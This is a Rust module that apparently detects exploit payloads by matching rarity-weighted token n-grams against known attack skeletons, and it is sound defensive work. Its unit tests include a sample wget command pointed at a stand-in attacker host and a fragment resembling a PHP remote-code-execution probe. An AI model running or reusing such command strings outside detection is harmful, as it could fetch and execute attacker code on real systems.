//! normalised text → token n-grams, weighted by how rare they are; how much of one text another contains.
//!
//! Everything is integer arithmetic, so that the answer is the same everywhere.

use std::collections::BTreeMap;

use xxhash_rust::xxh3::xxh3_64;

/// Tokens beyond this are not looked at: a longer payload's skeleton has shown itself by then.
pub(super) const MAX_TOKENS: usize = 8192;
const LONGEST: usize = 3;
/// A gram in an ordinary request counts as if this many methods had it.
const ORDINARY: u32 = 6;
/// Stands in a skeleton for what the attacker is free to choose (`{{cmd}}` in a file).
pub(super) const GAP: char = '\u{E000}';

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Token<'a> {
    Word(&'a str),
    /// Punctuation that code is made of.
    Mark(u8),
    /// An address, a host, a number, a random word: its place matters, its value does not.
    Typed(&'static str),
    /// No gram reaches across it.
    Gap,
}

impl Token<'_> {
    fn bytes(&self) -> &[u8] {
        match self {
            Self::Word(word) => word.as_bytes(),
            Self::Mark(mark) => std::slice::from_ref(mark),
            Self::Typed(kind) => kind.as_bytes(),
            Self::Gap => b"",
        }
    }
}

/// The tokens of a normalised text.
pub(super) fn tokens(text: &str) -> Vec<Token<'_>> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut at = 0;
    while at < bytes.len() && out.len() < MAX_TOKENS {
        if text.is_char_boundary(at) && text[at..].starts_with(GAP) {
            out.push(Token::Gap);
            at += GAP.len_utf8();
            continue;
        }
        let word = word_length(bytes, at);
        if word == 0 {
            if matches!(bytes[at], b'$' | b'{' | b'(' | b'|' | b';' | b'<' | b'>' | b'#' | b'@' | b'!' | b'%' | b'`') {
                out.push(Token::Mark(bytes[at]));
            }
            at += 1;
            continue;
        }
        if text[..at].ends_with("://") {
            let host = bytes[at..].iter().take_while(|&&b| is_host(b)).count();
            out.push(Token::Typed("<host>"));
            at += host.max(1);
            continue;
        }
        let length = dotted_quad(&bytes[at..]).unwrap_or(word);
        out.push(classify(&text[at..at + length]));
        at += length;
    }
    out
}

fn word_length(bytes: &[u8], at: usize) -> usize {
    let mut end = at;
    while let Some(&byte) = bytes.get(end) {
        let gap = bytes[end..].starts_with("\u{E000}".as_bytes());
        if gap || !(byte.is_ascii_alphanumeric() || byte == b'_' || byte >= 0x80) {
            break;
        }
        end += 1;
    }
    end - at
}

fn is_host(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b':' | b'-' | b'_' | b'@' | b'[' | b']')
}

fn dotted_quad(rest: &[u8]) -> Option<usize> {
    let mut at = 0;
    for part in 0..4 {
        let digits = rest[at..].iter().take(4).take_while(|b| b.is_ascii_digit()).count();
        if !(1..=3).contains(&digits) {
            return None;
        }
        at += digits;
        if part < 3 {
            if rest.get(at) != Some(&b'.') {
                return None;
            }
            at += 1;
        }
    }
    Some(at)
}

fn classify(word: &str) -> Token<'_> {
    let digits = word.bytes().filter(u8::is_ascii_digit).count();
    if word.contains('.') {
        return Token::Typed("<ip>");
    }
    if digits == word.len() {
        return Token::Typed("<num>");
    }
    let hex = word.len() >= 12 && word.bytes().all(|b| b.is_ascii_hexdigit()) && digits > 0;
    let mixed = word.len() >= 10 && digits * 5 >= word.len() && digits * 5 <= word.len() * 4;
    if hex || mixed || word.len() > 40 { Token::Typed("<rand>") } else { Token::Word(word) }
}

/// The distinct grams of one to three tokens, sorted. A gram of nothing but typed tokens says nothing.
pub(super) fn grams(tokens: &[Token<'_>]) -> Vec<u64> {
    let hashes: Vec<u64> = tokens.iter().map(|token| xxh3_64(token.bytes())).collect();
    let mut out = Vec::with_capacity(tokens.len() * LONGEST);
    for start in 0..tokens.len() {
        let mut gram = 0;
        let mut telling = 0;
        for (token, &hash) in tokens[start..].iter().zip(&hashes[start..]).take(LONGEST) {
            match token {
                Token::Gap => break,
                Token::Word(_) => telling += 2,
                Token::Mark(_) => telling += 1,
                Token::Typed(_) => {}
            }
            // Keeps the order of the tokens and their number.
            gram = (gram ^ hash).wrapping_mul(0x9E37_79B9_7F4A_7C15).rotate_left(29);
            if telling > 1 {
                out.push(gram);
            }
        }
    }
    out.sort_unstable();
    out.dedup();
    out
}

/// How often each gram stands in the known texts.
#[derive(Debug, Clone, Default)]
pub(super) struct Rarity {
    texts: u32,
    found: BTreeMap<u64, u32>,
}

impl Rarity {
    /// Adds the grams of one exploit, or of one ordinary request.
    pub(super) fn add(&mut self, grams: &[u64], ordinary: bool) {
        let weight = if ordinary { ORDINARY } else { 1 };
        self.texts += 1;
        for &gram in grams {
            *self.found.entry(gram).or_default() += weight;
        }
    }

    /// Sixteenths of a bit: 0 for what is everywhere.
    pub(super) fn weight(&self, gram: u64) -> u32 {
        let found = self.found.get(&gram).copied().unwrap_or(0).max(1);
        log2_16(self.texts + 1).saturating_sub(log2_16(found))
    }
}

/// Sixteenfold binary logarithm, the fraction linear between powers of two.
fn log2_16(n: u32) -> u32 {
    let n = n.max(1);
    let whole = n.ilog2();
    let rest = u64::from(n) - (1u64 << whole);
    whole * 16 + u32::try_from((rest * 16) >> whole).unwrap_or(0)
}

/// An exploit's text, weighed.
#[derive(Debug, Clone)]
pub(super) struct Skeleton {
    grams: Vec<(u64, u32)>,
    total: u64,
}

impl Skeleton {
    pub(super) fn new(grams: &[u64], rarity: &Rarity) -> Self {
        let grams: Vec<_> = grams.iter().map(|&gram| (gram, rarity.weight(gram))).collect();
        let total = grams.iter().map(|&(_, weight)| u64::from(weight)).sum();
        Self { grams, total }
    }

    /// How much of the skeleton's weight the payload (sorted grams) contains. What else it contains does not count:
    /// junk is free to add.
    pub(super) fn contained_permille(&self, payload: &[u64]) -> u16 {
        if self.total == 0 {
            return 0;
        }
        let found: u64 = self
            .grams
            .iter()
            .filter(|(gram, _)| payload.binary_search(gram).is_ok())
            .map(|&(_, weight)| u64::from(weight))
            .sum();
        u16::try_from(found * 1000 / self.total).unwrap_or(1000)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_the_attacker_varies_is_typed() {
        assert_eq!(
            tokens("wget http://evil.example:80/x1 192.0.2.1 8080;deadbeef00112233 a.b"),
            [
                Token::Word("wget"),
                Token::Word("http"),
                Token::Typed("<host>"),
                Token::Word("x1"),
                Token::Typed("<ip>"),
                Token::Typed("<num>"),
                Token::Mark(b';'),
                Token::Typed("<rand>"),
                Token::Word("a"),
                Token::Word("b"),
            ]
        );
    }

    #[test]
    fn no_gram_reaches_across_a_gap() {
        let gapped = format!("a b{GAP}c");
        let grams = grams(&tokens(&gapped));
        assert_eq!(grams.len(), 4, "a, b, a b, c");
    }

    #[test]
    fn junk_takes_nothing_away_and_common_grams_weigh_little() {
        let mut rarity = Rarity::default();
        let of = |text: &str| grams(&tokens(text));
        for _ in 0..7 {
            rarity.add(&of("get index php"), true);
        }
        let exploit = of("get index php invokefunction");
        rarity.add(&exploit, false);
        let skeleton = Skeleton::new(&exploit, &rarity);
        assert_eq!(skeleton.contained_permille(&of("x y get index php invokefunction z")), 1000);
        assert_eq!(skeleton.contained_permille(&of("get index php")), 0);
        assert!(skeleton.contained_permille(&of("invokefunction")) > 300);
    }

    #[test]
    fn logarithms_grow() {
        assert_eq!([1, 2, 3, 4, 64].map(log2_16), [0, 16, 24, 32, 96]);
        assert!(log2_16(u32::MAX) < 512);
    }
}
